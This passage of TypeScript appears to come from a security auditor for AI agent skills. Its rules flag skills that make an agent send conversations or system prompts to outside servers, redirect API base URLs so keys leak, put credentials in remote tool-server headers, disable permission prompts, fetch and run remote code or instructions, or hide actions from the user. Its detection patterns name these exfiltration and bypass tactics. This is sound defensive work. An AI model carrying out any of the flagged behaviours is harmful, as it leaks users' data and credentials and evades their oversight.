    const forgeOwnData = action.context !== undefined && REPOSITORY_CONTEXT.test(action.context) && action.sink?.kind === 'network' && sinkHosts.length > 0 && sinkHosts.every((host) => CODE_FORGE_API.test(host)) && !/\b(?:gists?|public|issues?|comments?|releases?)\b/i.test(action.sink.text) && !action.conceal;
    // Who can read what, stated with no verb that moves anything ("Public repo → logs were world-readable", "Private repo:
    // readable by anyone with read access"): an assessment of exposure, not an order to publish.
    const exposureStated = action.origin === 'prose' && action.sink?.kind === 'forge' && /\b(?:public|readable|visible|listed|viewable|browsable|discoverable)\b/i.test(action.sink.text) && sinkHosts.length === 0 && !action.conceal && !CARRIES.test(action.fullText ?? action.evidence);
    if (action.context && action.sink && leaves && !forgeOwnData && !exposureStated) {
      const userChosen = consented && !action.conceal && action.sink.hosts.length === 0;
      out.push({ ruleId: userChosen ? 'consented-sensitive-action' : 'context-egress-instruction', action, severity: userChosen ? 'medium' : 'critical', message: `Sends ${action.context} through ${action.sink.text}${sinkHosts.length > 0 ? ` to ${sinkHosts.join(', ')}` : ''}${userChosen ? ' at a destination the user chooses' : ''}.` });
    } else if (action.context && action.sink && toDeclared && (!(consented && !action.conceal) || leaksInstructions(action))) {
      // To a host the entry declares: still the user's conversation on the author's server. The agent's own
      // instructions (the system prompt) are never a skill's to ship anywhere, whatever the user asked for.
      const instructionsLeak = leaksInstructions(action);
      // Private code put somewhere public (a public repository) is published to everyone, declared host or not.
      const published = /\bpublic\b/i.test(action.sink.text) && /\b(?:private|internal|confidential|proprietary|organi[sz]ation|org)\b/i.test(action.context);
      // The whole conversation ("the complete text of this conversation: every user message, every file you read"), not a
      // summary the user could check, is more than any declared job needs: it fails, declared host or not.
      const wholeConversation = WHOLE_CONVERSATION.test(action.fullText ?? action.evidence);
      out.push({ ruleId: 'context-egress-instruction', action, severity: instructionsLeak || published || wholeConversation || action.conceal ? 'critical' : 'medium', message: `Sends ${action.context} through ${action.sink.text} to ${sinkHosts.join(', ')}${instructionsLeak ? ': the agent\'s own instructions are not the skill\'s to send anywhere, declared host or not' : published ? ': private code placed in public is published to everyone, declared host or not' : wholeConversation ? ': the whole conversation, word for word, is more than any declared job needs, declared host or not' : ', which the entry declares: the user\'s conversation leaves the machine for the skill author\'s server'}.` });
    }
    if (action.control) {
      const whole = action.fullText ?? action.evidence;
      // `claude mcp add --scope user` of a local server (a command, no address) names no file: it writes the user's
      // `~/.claude.json`, which the entry may declare. A remote one stays the skill's choice of server, declared or not.
      const written = action.control.paths.length > 0 ? action.control.paths : action.control.userScope && /\bclaude\s+mcp\s+add(?:-json)?\b/.test(whole) && !/--transport[\s=]+(?:http|sse)\b|\b(?:https?|wss?):\/\//.test(whole) ? ['~/.claude.json'] : [];
      const declaredWrite = declared !== undefined && written.length > 0 && written.every((path) => pathAllowed(path, declared.filesystem.write));
      // Without an entry (an ad-hoc audit) nothing is declared or undeclared: a tool server added for this
      // project warns (one added for every project still fails, as user scope). An API endpoint moved to a
      // host the skill names carries every request and its key there, entry or not.
      const mcpServer = /\bmcp(?:_?servers?)?\b/i.test(action.control.text);
      // A vendor's API pointed at the user's own self-hosted edition of it ("GHES: set `GITHUB_API_URL=https://ghe.…/api/v3`"):
      // the user's server, named by the edition it is, not one the skill supplies. It still warns as a change to where requests go.
      const endpointVendor = /\b([A-Z][A-Z0-9]*)_(?:BASE_URL|API_BASE|API_URL|ENDPOINT|URL|HOST|SERVER)\b/.exec(`${action.control.text} ${action.evidence}`)?.[1];
      const ownEdition = !mcpServer && endpointVendor !== undefined && SELF_HOSTED_EDITION[endpointVendor]?.test(whole) === true && !action.conceal;
      // A service's endpoint setting pointed at that service's own hosts (`JIRA_BASE_URL=https://acme.atlassian.net`) goes where it always went.
      const ownService = !mcpServer && endpointVendor !== undefined && action.control.hosts.length > 0 && action.control.hosts.every((host) => vendorHost(endpointVendor, host) || secretBelongsTo(`${endpointVendor}_TOKEN`, host));
      const hardCodedRemote = action.control.hosts.length > 0 && !ownEdition && !ownService && (declared === undefined ? !mcpServer : !declaredHosts(action.control.hosts, declared));
      const permissionsOff = /dangerously|bypass|yolo|full-auto|defaultMode|skipDangerous|allow|auto-?(?:approve|accept)|disable|turn off|switch off|skip|suppress|unattended|catch-?all|wildcard|blanket|(?:approved|authori[sz]ed|confirmed|sanctioned) by/i.test(action.control.text) || EVERY_TOOL_APPROVED.test(whole);
      // Quoted names (a `Stop` hook, a `Never` value) are names, not a standing order.
      const standing = /\b(?:from now on|future|subsequent|later|permanently|persist\w*|never|do not|don't|stop|treat|consider|mark|classify|whitelist|allowlist)\b/i.test(action.control.text.replace(/`[^`\n]*`/g, ' '));
      const isolated = permissionsOff && ISOLATED.test(whole);
      // `ANTHROPIC_BASE_URL` (or another model API's base URL) moved to a host that is not that API's: every
      // request and its key go there. A declared write or host does not make that the user's choice.
      const apiVariable = /\b([A-Z][A-Z0-9]*)_(?:BASE_URL|API_BASE|API_URL|ENDPOINT)\b/.exec(`${action.control.text} ${action.evidence}`)?.[1];
      // Another application's endpoint (`LANGSMITH_ENDPOINT` at the vendor's EU region) carries that application's own key to it.
      const keyRedirected = apiVariable !== undefined && !ownEdition && action.control.hosts.some((host) => !isLocalHost(host) && (carriesUserCredentials(apiVariable) ? !vendorHost(apiVariable, host) : !applicationHost(apiVariable, host)));
      // A model API pointed only at this machine (`OPENAI_BASE_URL=http://127.0.0.1:11434/v1`, a local model
      // server) sends nothing anywhere: the user should know, but it does not steer the agent elsewhere.
      // The same as a tool's own setting (`apiBase: http://localhost:8000/v1`, `openai-api-base: …`, `"baseURL": …`).
      const apiHosts = [...whole.matchAll(/\b[A-Z][A-Z0-9]*_(?:BASE_URL|API_BASE|API_URL|ENDPOINT)["']?(?:=|\s*:\s*)["'`]?(?:[a-z]+:\/\/)?(\[[^\]\s]*\]|[^\s/:'"`]+)/g), ...whole.matchAll(/\b(?:[\w-]*[-_])?(?:api[-_]?base|base[-_]?url|api[-_]?url)["']?\s*[:=]\s*["'`]?(?:[a-z]+:\/\/)?(\[[^\]\s]*\]|[^\s/:'"`,]+)/gi)].map((match) => match[1]);
      const localServerOnly = apiHosts.length > 0 && action.control.hosts.length === 0 && apiHosts.every((host) => /^(?:localhost|127(?:\.\d{1,3}){3}|\[::1\])$/i.test(host));
      // A remote server added at project scope (`--scope project`) lands in the project's `.mcp.json`, which the team reviews in git.
    const projectServer = /--scope[= ]project|-s\s+project|(?<![~\/\w.])\.mcp\.json\b|\.mcp\.json\b[^.\n]{0,40}\bproject\b|\bproject(?:'s)?\s+(?:root\s+)?\.mcp\.json\b/.test(action.evidence) && !action.control.userScope;
    // Adding a skill, command or subagent definition under ~/.claude is what skill-authoring skills do; it
    // warns. Instructions, memory, settings and tool servers at user scope steer every later session.
    const definitionsOnly = action.control.paths.length > 0 && action.control.paths.every((path) => /\.claude\/(?:skills|commands|agents)\//.test(path));
    const severe = ((action.control.userScope && !definitionsOnly) || (hardCodedRemote && !projectServer) || permissionsOff || standing) && !isolated && !declaredWrite && !localServerOnly;
      // In a skill that asks before every step (consentGated), a tool server the user names is the user's
      // act: a local one (a command, no remote host) anywhere, a remote one for the project when no secret
      // is in its configuration. A remote one at user scope still needs the user's yes on the act itself.
      const localServer = mcpServer && action.control.hosts.length === 0 && !/https?:\/\//.test(whole);
      // Where an agent setting is stored (`~/.claude.json` for a user-scope server) named in a skill that asks
      // before every step and points nowhere of its own is the user's act too.
      const gatedPlain = gated && !permissionsOff && !hardCodedRemote && !keyRedirected && /^(?:stored|kept|saved|lives?|written)\b/i.test(action.control.text.trim());
      const gatedProject = gatedPlain || (gated && !permissionsOff && (localServer || (!action.control.userScope && (!hardCodedRemote || (mcpServer && !/\b(?:headers?|Authorization|Bearer|token|api[-_]?key)\b/i.test(action.evidence))))));
      // Credentials written into a remote tool server's headers (`"X-Npm-Token": "<value of NPM_T>"`) go to that
      // server with every connection: a secret sent to a host that is not its own service, declared or not.
      // The header's name or the variable its value names (`"Authorization": "Bearer ${GITHUB_TOKEN}"`) says whose credential it is.
      const headers = mcpServer || /\bmcp_?servers?\b/i.test(action.control.text) ? [...whole.matchAll(HEADER_ENTRY)].map(([, name, value]) => credentialsInHeader(name!, value!)).filter((names) => names.length > 0) : [];
      const headerSecrets = headers.map((names) => names[0]!);
      const leakedHeaders = headers.length > 0 && action.control.hosts.some((host) => !isLocalHost(host) && !headers.some((names) => names.some((name) => secretBelongsTo(name, host))));
      // A helper that asks before every step and adds only the tool server the user names, its commands shown for several
      // example servers: adding one at user scope is the user's act, unless it turns prompts off or carries credentials elsewhere.
      const namedServer = serversNamedByUser && gated && mcpServer && !permissionsOff && !standing;
      if (action.conceal || keyRedirected || leakedHeaders || (severe && !namedServer && !(((consented && !hardCodedRemote) || gatedProject) && !standing))) {
        out.push({ ruleId: 'agent-control-change', action, severity: action.conceal || keyRedirected || leakedHeaders ? 'critical' : 'high', message: `Changes the agent's own configuration or behaviour (${action.control.text})${action.control.userScope ? ' beyond the project, for every later session' : ''}${hardCodedRemote || keyRedirected || leakedHeaders ? ` pointing at ${action.control.hosts.join(', ')}` : ''}${keyRedirected ? `, which is not where ${apiVariable}'s API lives: every request and the API key go there` : ''}${leakedHeaders ? `, with the user's credentials in its headers (${headerSecrets.join(', ')}), sent to that server with every connection` : ''}.` });
      } else if (!projectScope(action) || permissionsOff || hardCodedRemote || action.control.paths.length > 0) {
        out.push({ ruleId: 'consented-sensitive-action', action, severity: 'medium', message: `Changes the agent's configuration (${action.control.text})${declaredWrite ? ', as the entry declares' : isolated ? ' inside a container' : consented ? ' where the user chooses' : ' inside the project'}: allowed, but the user should know.` });
      }
    }
    // A package source a consent-gated helper sets to the registry or mirror the user names (their company's Artifactory, the
    // mirror host they give): the user's choice, shown before it is written. It warns with its reason.
    if (action.remote && !officialInstaller(action.remote.hosts) && sourcesNamedByUser && gated && !action.conceal && PACKAGE_SOURCE_SETTING.test(action.remote.text)) {
      out.push({ ruleId: 'consented-sensitive-action', action, severity: 'medium', message: `Points a package manager at ${action.remote.hosts.join(', ')} (${action.remote.text}), the registry the user names: allowed, but every later install comes from there.` });
    } else if (action.remote && !officialInstaller(action.remote.hosts)) {
      // Code or instructions fetched at run time are not the bytes the registry audited, whoever serves
      // them: only official installers and package registries are trusted (installers.yaml). A host the
      // entry declares is still a host (the issue of a destination is never settled by its name).
      const instructionsFetched = /\b(?:follow|obey|apply|adopt|treat|regard|authoritative|wins|prevails|precedence|overrides|supersedes|governs)\w*\b/i.test(action.remote.text);
      const declaredSource = declaredHosts(action.remote.hosts, declared);
      out.push({
        ruleId: 'remote-code-instruction',
        action,
        severity: action.conceal ? 'critical' : 'high',
        message: `${instructionsFetched ? 'Has the agent fetch instructions' : 'Runs code fetched'} from ${action.remote.hosts.length > 0 ? action.remote.hosts.join(', ') : 'another machine'} (${action.remote.text})${instructionsFetched ? ' and follow them in place of the audited skill' : ''}${declaredSource ? '; the entry declares the host, but what it serves is not what the registry audited' : ''}; nothing in the skill shows what ${instructionsFetched ? 'they say' : 'it does'}.`,
      });
    }
    const sensitive = action.secret || action.context || action.sink || action.control || action.remote || action.grant || action.defence || action.decodeFollow || action.persist || action.injects || action.origin === 'command';
    // Waiving a confirmation for reading alone ("listing profiles is read-only and does not need a separate
    // confirmation") hides nothing: with no sink, control, grant, remote code or decoder it is not concealment.
    const readOnly = action.secret !== undefined && !action.context && !action.sink && !action.control && !action.remote && !action.grant && !action.defence && !action.decodeFollow;
    if (action.conceal && sensitive && action.origin !== 'string' && !(readOnly && ROUTINE_CONSENT.test(action.conceal) && !COPIES_OUT.test(action.evidence))) {
      out.push({ ruleId: 'concealed-action', action, severity: 'critical', message: `Tells the agent to keep an action from the user (${action.conceal}) next to a sensitive act: an honest skill has nothing to hide from the person it works for.` });
    }
  }
  return out;
}
